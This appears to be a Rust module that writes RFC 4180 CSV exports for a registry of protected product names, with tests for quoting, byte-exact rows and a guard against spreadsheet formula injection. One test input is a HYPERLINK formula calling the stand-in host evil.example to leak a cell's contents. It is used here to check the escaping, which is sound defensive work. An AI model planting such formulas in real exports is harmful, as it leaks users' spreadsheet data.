//! RFC 4180 CSV: a header row, CRLF line ends, fields quoted when they hold a comma, a
//! quote or a line break; UTF-8, with a byte-order mark on request.
//!
//! No cell can run as a spreadsheet formula (OWASP, "CSV Injection"): a field that
//! begins with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single
//! quote and written quoted, so a spreadsheet program shows it as text. The JSON and
//! xlsx exports keep such values as they are (an xlsx cell written as a string is never
//! evaluated).

use super::rows::ExportRow;
use super::Layout;

pub const COLUMNS: [&str; 23] = [
    "recognition_id",
    "programme",
    "list_label",
    "file_number",
    "registration_number",
    "names",
    "origin_office",
    "origin_jurisdiction",
    "partner_office",
    "partner_jurisdiction",
    "status",
    "submitted_on",
    "published_on",
    "decided_on",
    "protected_from",
    "limitations",
    "grounds",
    "phase_out_until",
    "decision_documents",
    "recorded_at",
    "recorded_late",
    "protected_names",
    "excluded_names",
];

const BOM: &str = "\u{feff}";

pub fn header(bom: bool, layout: Layout) -> String {
    let mut out = String::new();
    if bom {
        out.push_str(BOM);
    }
    for (i, column) in layout.columns().iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        push_field(&mut out, column);
    }
    out.push_str("\r\n");
    out
}

/// Every name as `text [script, lang, kind]`, separated by ` | `.
pub fn names_cell(row: &ExportRow) -> String {
    let mut cell = String::new();
    push_names(&mut cell, row);
    cell
}

fn push_names(cell: &mut String, row: &ExportRow) {
    for (i, n) in row.names.iter().enumerate() {
        if i > 0 {
            cell.push_str(" | ");
        }
        for part in [n.text, " [", n.script, ", ", n.lang, ", ", n.kind, "]"] {
            cell.push_str(part);
        }
    }
}

/// The protected names, separated by ` | `.
pub fn protected_names_cell(row: &ExportRow) -> String {
    row.protected_names.join(" | ")
}

/// Every excluded name as `name (reason)`, separated by ` | `.
pub fn excluded_names_cell(row: &ExportRow) -> String {
    let cells: Vec<String> = row
        .excluded_names
        .iter()
        .map(|e| format!("{} ({})", e.name, e.reason))
        .collect();
    cells.join(" | ")
}

/// The lines of `rows`.
pub fn lines(rows: &[ExportRow], layout: Layout) -> String {
    let mut text = String::with_capacity(rows.len() * 320);
    let mut scratch = String::new();
    for row in rows {
        push_row(&mut text, row, &mut scratch, layout);
    }
    text
}

pub fn row(row: &ExportRow) -> String {
    let mut out = String::new();
    push_row(&mut out, row, &mut String::new(), Layout::CURRENT);
    out
}

/// Appends the line of `row` to `out`; `scratch` is room for the names cell, reused
/// from row to row.
pub fn push_row(out: &mut String, row: &ExportRow, scratch: &mut String, layout: Layout) {
    use std::fmt::Write;
    // Numbers and dates never need quoting: they start with a digit and hold no comma.
    let _ = write!(out, "{}", row.recognition_id);
    for field in [
        &*row.programme,
        text_of(&row.list_label),
        text_of(&row.file_number),
        text_of(&row.registration_number),
    ] {
        out.push(',');
        push_field(out, field);
    }
    scratch.clear();
    push_names(scratch, row);
    out.push(',');
    push_field(out, scratch);
    for field in [
        &*row.origin_office,
        &row.origin_jurisdiction,
        &row.partner_office,
        &row.partner_jurisdiction,
        &row.status,
    ] {
        out.push(',');
        push_field(out, field);
    }
    for date in [
        row.submitted_on,
        row.published_on,
        row.decided_on,
        row.protected_from,
    ] {
        out.push(',');
        push_date(out, date);
    }
    for field in [text_of(&row.limitations), text_of(&row.grounds)] {
        out.push(',');
        push_field(out, field);
    }
    out.push(',');
    push_date(out, row.phase_out_until);
    out.push(',');
    // Hex digests, space-separated: never quoted.
    out.push_str(&row.decision_documents.join(" "));
    out.push(',');
    crate::utc::push(out, row.recorded_at);
    out.push_str(if row.recorded_late { ",true" } else { ",false" });
    if layout.has_name_columns() {
        for field in [protected_names_cell(row), excluded_names_cell(row)] {
            out.push(',');
            push_field(out, &field);
        }
    }
    out.push_str("\r\n");
}

fn text_of(text: &Option<String>) -> &str {
    text.as_deref().unwrap_or("")
}

fn push_date(out: &mut String, date: Option<chrono::NaiveDate>) {
    if let Some(d) = date {
        crate::utc::push_date(out, d);
    }
}

/// The characters a spreadsheet program reads as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[cfg(test)]
fn quote(field: &str) -> String {
    let mut out = String::new();
    push_field(&mut out, field);
    out
}

fn push_field(out: &mut String, field: &str) {
    let formula = field.starts_with(FORMULA_STARTS);
    if !formula && !field.contains([',', '"', '\r', '\n']) {
        out.push_str(field);
        return;
    }
    out.push('"');
    if formula {
        out.push('\'');
    }
    let mut rest = field;
    while let Some(at) = rest.find('"') {
        out.push_str(&rest[..=at]);
        out.push('"');
        rest = &rest[at + 1..];
    }
    out.push_str(rest);
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting_follows_rfc_4180() {
        assert_eq!(quote("plain"), "plain");
        assert_eq!(quote("a,b"), "\"a,b\"");
        assert_eq!(quote("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(quote("two\nlines"), "\"two\nlines\"");
        assert_eq!(quote("龙井茶"), "龙井茶");
    }

    #[test]
    fn a_cell_never_starts_a_formula() {
        assert_eq!(
            quote("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""
        );
        assert_eq!(quote("+1"), "\"'+1\"");
        assert_eq!(quote("-2+3"), "\"'-2+3\"");
        assert_eq!(quote("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(quote("\t=1"), "\"'\t=1\"");
        assert_eq!(quote("\r=1"), "\"'\r=1\"");
        // Only the first character counts.
        assert_eq!(quote("a=b"), "a=b");
        assert_eq!(quote("co-exists"), "co-exists");
        assert_eq!(quote(""), "");
    }

    fn sample_row() -> ExportRow {
        let date = |s: &str| Some(s.parse().unwrap());
        ExportRow {
            recognition_id: 42,
            programme: "CN-TH".into(),
            list_label: Some("=HYPERLINK(\"x\")".into()),
            file_number: Some("-1".into()),
            registration_number: None,
            names: vec![
                super::super::rows::ExportName {
                    text: "龙井茶".into(),
                    script: "Hans".into(),
                    lang: "zh".into(),
                    kind: "original".into(),
                },
                super::super::rows::ExportName {
                    text: "Say \"hi\"".into(),
                    script: "Latn".into(),
                    lang: "en".into(),
                    kind: "translation".into(),
                },
            ]
            .into(),
            origin_office: "CNIPA".into(),
            origin_jurisdiction: "CN".into(),
            partner_office: "DIP".into(),
            partner_jurisdiction: "TH".into(),
            status: "protected".into(),
            submitted_on: date("2026-05-10"),
            published_on: None,
            decided_on: date("2026-08-31"),
            protected_from: date("2026-08-31"),
            limitations: Some("two\nlines, \"quoted\"".into()),
            grounds: Some("@SUM(A1)".into()),
            phase_out_until: date("2028-08-31"),
            decision_documents: vec!["ab".repeat(32), "cd".repeat(32)],
            recorded_at: "2026-11-29T01:02:03.000004Z"
                .parse::<chrono::DateTime<chrono::Utc>>()
                .unwrap()
                .naive_utc(),
            recorded_late: true,
            protected_names: vec!["龙井茶".into()],
            excluded_names: vec![crate::domain::excluded_names::ExcludedName {
                name_id: 2,
                name: "Dragon Well tea".into(),
                reason: "a translation, not protected in Thailand".into(),
            }],
        }
    }

    #[test]
    fn a_row_is_exactly_these_bytes() {
        assert_eq!(
            row(&sample_row()),
            "42,CN-TH,\"'=HYPERLINK(\"\"x\"\")\",\"'-1\",,\
             \"龙井茶 [Hans, zh, original] | Say \"\"hi\"\" [Latn, en, translation]\",\
             CNIPA,CN,DIP,TH,protected,2026-05-10,,2026-08-31,2026-08-31,\
             \"two\nlines, \"\"quoted\"\"\",\"'@SUM(A1)\",2028-08-31,\
             abababababababababababababababababababababababababababababababab \
             cdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd,\
             2026-11-29T01:02:03.000004Z,true,龙井茶,\
             \"Dragon Well tea (a translation, not protected in Thailand)\"\r\n"
        );
        let mut on_time = sample_row();
        on_time.recorded_late = false;
        on_time.excluded_names.clear();
        assert!(row(&on_time).ends_with(",2026-11-29T01:02:03.000004Z,false,龙井茶,\r\n"));
        let mut empty = sample_row();
        empty.names = Vec::new().into();
        empty.list_label = None;
        empty.limitations = Some(String::new());
        assert!(row(&empty).starts_with("42,CN-TH,,\"'-1\",,,CNIPA,"));
    }

    #[test]
    fn the_first_layout_ends_with_recorded_late_for_its_replays() {
        let mut line = String::new();
        push_row(&mut line, &sample_row(), &mut String::new(), Layout::FIRST);
        assert!(
            line.ends_with(",2026-11-29T01:02:03.000004Z,true\r\n"),
            "{line}"
        );
        assert!(header(false, Layout::FIRST).ends_with(",recorded_at,recorded_late\r\n"));
        let json = super::super::json::row(&sample_row(), true, Layout::FIRST);
        assert!(json.ends_with("\"recorded_late\":true}"), "{json}");
        let current = super::super::json::row(&sample_row(), true, Layout::CURRENT);
        assert!(current.contains("\"excluded_names\":[{"), "{current}");
        let recorded = serde_json::json!({"format": "csv"});
        assert_eq!(Layout::of_recorded(&recorded), Layout::FIRST);
        assert_eq!(
            Layout::of_recorded(&serde_json::json!({"layout": 2})),
            Layout::CURRENT
        );
    }

    #[test]
    fn header_with_and_without_bom() {
        assert!(header(true, Layout::CURRENT).starts_with('\u{feff}'));
        assert!(header(false, Layout::CURRENT).starts_with("recognition_id,programme,"));
        assert!(header(false, Layout::CURRENT).ends_with(
            "decision_documents,recorded_at,recorded_late,protected_names,excluded_names\r\n"
        ));
    }
}
